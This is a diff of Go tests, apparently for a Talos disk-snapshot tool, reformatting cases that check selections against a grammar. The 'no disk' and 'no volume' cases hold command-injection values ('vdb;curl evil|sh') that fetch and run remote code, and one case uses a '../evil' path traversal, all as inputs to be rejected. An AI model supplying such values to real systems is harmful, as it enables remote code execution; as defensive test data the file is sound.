@@ -67,12 +67,38 @@ func TestLoadHoldsSelectionsToTheGrammar(t *testing.T) {
 		selection snapshot.Selection
 		known     bool
 	}{
-		"a user volume":                     {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "UserVolumeConfig", Name: "data"}, Disks: []string{"vdb"}}, known: true},
-		"a label longer than a partition's": {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "SwapVolumeConfig", Name: long}}},
-		"an existing volume":                {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: long}, Volumes: []string{"vdb1", "dm-0"}}, known: true},
-		"a name that is no directory":       {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: "a/b"}}},
-		"no disk":                           {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "UserVolumeConfig", Name: "data"}, Disks: []string{"vdb;curl evil|sh"}}},
-		"no volume":                         {selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: "data"}, Volumes: []string{"vdb1;curl evil|sh"}}},
+		"a user volume": {
+			selection: snapshot.Selection{
+				VolumeSelector: machineconfig.VolumeSelector{Kind: "UserVolumeConfig", Name: "data"},
+				Disks:          []string{"vdb"},
+			},
+			known: true,
+		},
+		"a label longer than a partition's": {
+			selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "SwapVolumeConfig", Name: long}},
+		},
+		"an existing volume": {
+			selection: snapshot.Selection{
+				VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: long},
+				Volumes:        []string{"vdb1", "dm-0"},
+			},
+			known: true,
+		},
+		"a name that is no directory": {
+			selection: snapshot.Selection{VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: "a/b"}},
+		},
+		"no disk": {
+			selection: snapshot.Selection{
+				VolumeSelector: machineconfig.VolumeSelector{Kind: "UserVolumeConfig", Name: "data"},
+				Disks:          []string{"vdb;curl evil|sh"},
+			},
+		},
+		"no volume": {
+			selection: snapshot.Selection{
+				VolumeSelector: machineconfig.VolumeSelector{Kind: "ExistingVolumeConfig", Name: "data"},
+				Volumes:        []string{"vdb1;curl evil|sh"},
+			},
+		},
 	} {
 		s := &snapshot.Snapshot{Nodes: []snapshot.Node{{Name: "w-1", Selections: snapshot.Read([]snapshot.Selection{c.selection})}}}
 		var file bytes.Buffer
@@ -133,16 +159,24 @@ func TestTalosIsHeldToTheGrammar(t *testing.T) {
 		"a page of Talos's": func(n *snapshot.Talos) { n.Diagnostics = snapshot.Read([]snapshot.TalosDiagnostic{{ID: "../evil"}}) },
 	} {
 		reported := snapshot.Talos{
-			Disks:       snapshot.Read([]snapshot.TalosDisk{{Name: "nvme0n1", Symlinks: []string{`/dev/disk/by-id/nvme-A_1\x2f`, "/dev/disk/by-path/pci-0000:00:04.0"}, Secondaries: []string{"sda"}}}),
-			System:      snapshot.Read("vda"),
-			Devices:     snapshot.Read([]snapshot.TalosDevice{{Name: "nvme0n1p1", Parent: "nvme0n1", PartitionLabel: "Linux filesystem"}, {Name: "dm-0"}}),
-			Volumes:     snapshot.Read([]snapshot.TalosVolume{{ID: "/dev/disk/by-id/ata-x-1"}, {ID: "u-data", Location: "/dev/nvme0n1p1", MountLocation: "/dev/mapper/luks2-u-data"}}),
+			Disks: snapshot.Read([]snapshot.TalosDisk{{
+				Name:        "nvme0n1",
+				Symlinks:    []string{`/dev/disk/by-id/nvme-A_1\x2f`, "/dev/disk/by-path/pci-0000:00:04.0"},
+				Secondaries: []string{"sda"},
+			}}),
+			System: snapshot.Read("vda"),
+			Devices: snapshot.Read([]snapshot.TalosDevice{{Name: "nvme0n1p1", Parent: "nvme0n1", PartitionLabel: "Linux filesystem"},
+				{Name: "dm-0"}}),
+			Volumes: snapshot.Read([]snapshot.TalosVolume{{ID: "/dev/disk/by-id/ata-x-1"},
+				{ID: "u-data", Location: "/dev/nvme0n1p1", MountLocation: "/dev/mapper/luks2-u-data"}}),
 			Mounts:      snapshot.Read([]snapshot.TalosMount{{Source: "/dev/vda6", Target: "/var/with a blank"}}),
 			Links:       snapshot.Read(map[string][]string{"vda": {"/dev/disk/by-diskseq/1"}}),
 			Diagnostics: snapshot.Read([]snapshot.TalosDiagnostic{{ID: "address-overlap"}}),
 		}
 		lost := func() (parts int) {
-			for _, why := range []string{reported.Disks.Problem.Message, reported.System.Problem.Message, reported.Devices.Problem.Message, reported.Volumes.Problem.Message, reported.Mounts.Problem.Message, reported.Links.Problem.Message, reported.Diagnostics.Problem.Message} {
+			for _, why := range []string{reported.Disks.Problem.Message, reported.System.Problem.Message, reported.Devices.Problem.Message,
+				reported.Volumes.Problem.Message, reported.Mounts.Problem.Message, reported.Links.Problem.Message,
+				reported.Diagnostics.Problem.Message} {
 				if strings.HasPrefix(why, "what Talos answers cannot be: ") {
 					parts++
 				}
